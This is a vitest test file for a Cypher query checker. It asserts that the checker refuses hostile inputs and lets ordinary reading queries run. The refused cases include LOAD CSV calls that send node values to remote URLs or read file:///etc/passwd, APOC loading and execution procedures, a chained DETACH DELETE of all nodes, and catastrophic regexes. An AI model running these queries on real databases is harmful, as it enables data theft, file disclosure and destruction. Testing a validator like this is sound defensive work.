import { describe, expect, test } from 'vitest';

import { seededRandom } from '@/lib/base/seeded-random';
import { corpusQueries } from '@/lib/testing/cypher-corpus';

import { checkQuery } from './check-query';

describe('checkQuery', () => {
  test.each(corpusQueries().map(({ text }) => text))('lets a reading query run: %s', (text) => {
    expect(codes(text)).toEqual([]);
  });

  test.each([
    [
      'F1 a web address',
      "LOAD CSV FROM 'http://127.0.0.1:1/' AS row RETURN row",
      'load-csv-not-allowed',
    ],
    ['F1 a parameter', 'LOAD CSV FROM $u AS row RETURN row', 'load-csv-not-allowed'],
    [
      'F1 a value in the address',
      "MATCH (n) LOAD CSV FROM 'http://x/?v=' + n.name AS row RETURN row",
      'load-csv-not-allowed',
    ],
    [
      'F1 in a sub-query',
      "CALL { LOAD CSV FROM 'http://x/' AS row RETURN row } RETURN row",
      'load-csv-not-allowed',
    ],
    [
      'F1 in EXISTS',
      "MATCH (n) WHERE EXISTS { LOAD CSV FROM 'http://x/' AS row RETURN row } RETURN n",
      'load-csv-not-allowed',
    ],
    ['F2 a file', "LOAD CSV FROM 'file:///etc/passwd' AS row RETURN row", 'load-csv-not-allowed'],
    [
      'F3 a procedure',
      "CALL apoc.load.json('http://x') YIELD value RETURN value",
      'procedure-not-allowed',
    ],
    [
      'F3 another',
      "CALL apoc.cypher.run('CREATE (n)', {}) YIELD value RETURN value",
      'procedure-not-allowed',
    ],
    [
      'F3 a comment before the name',
      'CALL /* x */ gds.list() YIELD name RETURN name',
      'procedure-not-allowed',
    ],
    ['F3 a function of a library', "RETURN apoc.text.join(['a'], ',')", 'function-not-allowed'],
    ['F3 a function that loads', "RETURN apoc.load.json('http://x')", 'function-not-allowed'],
    ['F5 CREATE', 'CREATE (n) RETURN n', 'write-not-allowed'],
    ['F5 INSERT', 'INSERT (n:A) RETURN 1', 'write-not-allowed'],
    ['F5 MERGE', 'MERGE (n) RETURN n', 'write-not-allowed'],
    ['F5 SET', 'MATCH (n) SET n.x = 1 RETURN n', 'write-not-allowed'],
    ['F5 REMOVE', 'MATCH (n) REMOVE n.x RETURN n', 'write-not-allowed'],
    ['F5 DELETE', 'MATCH (n) DELETE n', 'write-not-allowed'],
    ['F5 DETACH DELETE', 'MATCH (n) DETACH DELETE n', 'write-not-allowed'],
    ['F5 FOREACH', 'FOREACH (x IN [1] | CREATE ()) RETURN 1', 'write-not-allowed'],
    ['F5 within CALL {}', 'CALL { CREATE (n) RETURN n } RETURN n', 'write-not-allowed'],
    ['F5 within CALL () {}', 'MATCH (a) CALL (a) { SET a.x = 1 } RETURN a', 'write-not-allowed'],
    ['F5 within COLLECT', 'RETURN COLLECT { CREATE (n) RETURN n }', 'write-not-allowed'],
    [
      'F5 IN TRANSACTIONS',
      'MATCH (n) CALL { WITH n RETURN 1 AS x } IN TRANSACTIONS RETURN x',
      'in-transactions-not-allowed',
    ],
    [
      'F6 a write behind a string',
      "MATCH (n) WHERE n.url = 'http://x' DELETE n",
      'write-not-allowed',
    ],
    [
      'F6 a write behind a split comment',
      "MATCH (n) WHERE n.a = '/*' DELETE n RETURN '*/'",
      'write-not-allowed',
    ],
    ['F7 SHOW TRANSACTIONS', 'SHOW TRANSACTIONS', 'command-not-allowed'],
    ['F7 SHOW SETTINGS', 'SHOW SETTINGS YIELD name RETURN name', 'command-not-allowed'],
    ['F7 SHOW USERS', 'SHOW USERS', 'command-not-allowed'],
    ['F7 TERMINATE', "TERMINATE TRANSACTIONS 'neo4j-transaction-1'", 'command-not-allowed'],
    ['F7 dbms.*', 'CALL dbms.components() YIELD name RETURN name', 'procedure-not-allowed'],
    ['F7 db.clearQueryCaches', 'CALL db.clearQueryCaches()', 'procedure-not-allowed'],
    ['F7 tx.setMetaData', 'CALL tx.setMetaData({a: 1})', 'procedure-not-allowed'],
    ['F7 an index', 'CREATE INDEX x FOR (n:A) ON (n.b)', 'command-not-allowed'],
    ['F8 USE', 'USE otherdb MATCH (n) RETURN n', 'use-not-allowed'],
    ['F8 USE by name', 'USE graph.byName($x) MATCH (n) RETURN n', 'use-not-allowed'],
    [
      'F10 a doubling reduce',
      "RETURN reduce(s = 'x', i IN [1, 2, 3] | s + s) AS s",
      'growing-reduce',
    ],
    [
      'F10 a doubling reduce in a CASE',
      "RETURN reduce(s = 'x', i IN [1] | CASE WHEN true THEN s + s ELSE s END) AS s",
      'growing-reduce',
    ],
    [
      'F10 a list that doubles',
      'RETURN reduce(s = [], i IN [1, 2] | [s, s]) AS s',
      'growing-reduce',
    ],
    ['F10 a huge range', 'UNWIND range(1, 1000000000) AS x RETURN count(x)', 'range-too-large'],
    [
      'F10 ranges that multiply',
      'UNWIND range(1, 1000) AS x UNWIND range(1, 1000) AS y RETURN count(*)',
      'range-too-large',
    ],
    ['F10 a computed range', 'MATCH (n) UNWIND range(1, n.x) AS x RETURN x', 'unbounded-range'],
    [
      'F10 WITH that doubles',
      `WITH 'x' AS s ${'WITH s + s AS s '.repeat(30)}RETURN s`,
      'growing-value',
    ],
    ['F11 four unconnected parts', 'MATCH (a), (b), (c), (d) RETURN count(*)', 'cartesian-product'],
    [
      'F11 three in three clauses',
      'MATCH (a) MATCH (b) MATCH (c) RETURN count(*)',
      'cartesian-product',
    ],
    ['F11 any length', 'MATCH (a)-[*]-(b) RETURN b', 'unbounded-path'],
    ['F11 no upper bound', 'MATCH (a)-[:R*2..]->(b) RETURN b', 'unbounded-path'],
    ['F11 one or more', 'MATCH (a)-[:R]->+(b) RETURN b', 'unbounded-path'],
    ['F11 a repeated group', 'MATCH ((a)-[:R]->(b))+ RETURN a', 'unbounded-path'],
    ['F11 a very long path', 'MATCH (a)-[*1..99]-(b) RETURN b', 'path-too-long'],
    [
      'F11 shortestPath without bound',
      'MATCH p = shortestPath((a)-[*]-(b)) RETURN p',
      'unbounded-path',
    ],
    ['F11 a catastrophic pattern', "MATCH (n) WHERE n.x =~ '(a+)+$' RETURN n", 'unsafe-regex'],
    ['F11 another', "MATCH (n) WHERE n.x =~ '(a|aa)*b' RETURN n", 'unsafe-regex'],
    ['F11 a nested one', "MATCH (n) WHERE n.x =~ '((ab)*c)*' RETURN n", 'unsafe-regex'],
    ['F11 a computed pattern', "MATCH (n) WHERE n.x =~ '.*' + n.y RETURN n", 'regex-not-literal'],
    ['F12 a second statement', 'RETURN 1; MATCH (n) DETACH DELETE n', 'several-statements'],
    ['F13 EXPLAIN', 'EXPLAIN MATCH (n) RETURN n', 'prefix-not-allowed'],
    ['F13 PROFILE', 'profile MATCH (n) RETURN n', 'prefix-not-allowed'],
    ['F13 CYPHER', 'CYPHER runtime=slotted MATCH (n) RETURN n', 'prefix-not-allowed'],
    ['F18 200 kB and more', `RETURN ${'1,'.repeat(100_001)}1`, 'too-large'],
    ['F18 5,000 brackets', `RETURN ${'('.repeat(5000)}1${')'.repeat(5000)}`, 'too-large'],
    [
      'F18 13 nested CASE',
      `RETURN ${'CASE WHEN true THEN '.repeat(13)}1${' END'.repeat(13)}`,
      'too-large',
    ],
    ['a computed label', 'MATCH (n:$($x)) RETURN n', 'dynamic-label-not-allowed'],
    ['an interpolated string', 'MATCH (n) RETURN s"x{n.name}"', 'not-cypher-5'],
    ['FILTER', 'MATCH (n) FILTER n.x = 1 RETURN n', 'not-cypher-5'],
    ['LET', 'MATCH (n) LET x = 1 RETURN x', 'not-cypher-5'],
    ['NEXT', 'RETURN 1 AS x NEXT RETURN x', 'not-cypher-5'],
    ['WHEN', 'WHEN true THEN RETURN 1 ELSE RETURN 2', 'not-cypher-5'],
    ['no RETURN', 'MATCH (n)', 'no-return'],
    ['RETURN in the middle', 'MATCH (n) RETURN n MATCH (m) RETURN m', 'early-return'],
    ['nothing', '  ', 'no-query'],
    ['a comment alone', '// nothing', 'no-query'],
    ['prose', 'Sorry, I cannot help with that.', 'syntax'],
    ['NUL', 'RETURN 1\0', 'syntax'],
    ['a lone surrogate', 'RETURN \ud800', 'syntax'],
    ['a name with an escape that ends it', 'MATCH (n:`a\\u0060b`) RETURN n', 'name-not-allowed'],
  ])('refuses %s', (_case, text, code) => {
    expect(codes(text)).toContain(code);
  });

  test.each([
    ['a reading CALL {}', 'CALL { MATCH (n) RETURN n } RETURN n'],
    [
      'words of writing in strings and comments',
      "MATCH (n) WHERE n.x = 'DELETE' /* SET n.x = 1 */ RETURN n // DROP",
    ],
    ['two unconnected parts', 'MATCH (a:A), (b:B) RETURN a, b'],
    [
      'parts that an equality connects',
      'MATCH (a:A), (b:B), (c:C) WHERE a.x = b.x AND b.y = c.y RETURN a',
    ],
    ['a bounded path', 'MATCH (a)-[:R*1..5]->(b) RETURN b'],
    ['a bounded repeated group', 'MATCH ((a)-[:R]->(b)){1,3} RETURN a'],
    ['a harmless pattern', "MATCH (n) WHERE n.x =~ '(?i).*(ab|cd).*' RETURN n"],
    ['a reduce that adds up', 'RETURN reduce(s = 0, x IN [1, 2] | s + x) AS s'],
    [
      'a range as long as a list',
      'WITH [1, 2] AS xs RETURN [i IN range(0, size(xs) - 1) | xs[i]] AS ys',
    ],
  ])('lets %s run', (_case, text) => {
    expect(codes(text)).toEqual([]);
  });

  test('says nothing of the text in its messages', () => {
    const refused = checkQuery("MATCH (n) WHERE n.name = 'Falcon Nine' Group DELETE n");
    expect(JSON.stringify(refused)).not.toContain('Falcon');
  });

  test.each([1, 2, 3, 4, 5, 6, 7, 8])('never throws on damaged text, seed %i', (seed) => {
    for (const text of damagedTexts(seed)) expect(() => checkQuery(text)).not.toThrow();
  });
});

function codes(text: string): readonly string[] {
  const checked = checkQuery(text);
  return checked.ok ? [] : checked.diagnostics.map(({ code }) => code);
}

function damagedTexts(seed: number): readonly string[] {
  const random = seededRandom(seed);
  const pick = <Item>(items: readonly Item[]): Item | undefined =>
    items[Math.floor(random() * items.length)];
  const texts = corpusQueries().map(({ text }) => text);
  const pieces = [
    '(',
    ')',
    '[',
    ']',
    '{',
    '}',
    "'",
    '"',
    '`',
    '\\',
    '$',
    '-',
    '*',
    '..',
    '😀',
    '\u2028',
    'CASE',
    'MATCH',
  ];
  return Array.from({ length: 60 }, () => {
    const text = pick(texts) ?? '';
    const at = Math.floor(random() * text.length);
    const until = at + Math.floor(random() * 6);
    return text.slice(0, at) + (pick(pieces) ?? '') + text.slice(until);
  });
}
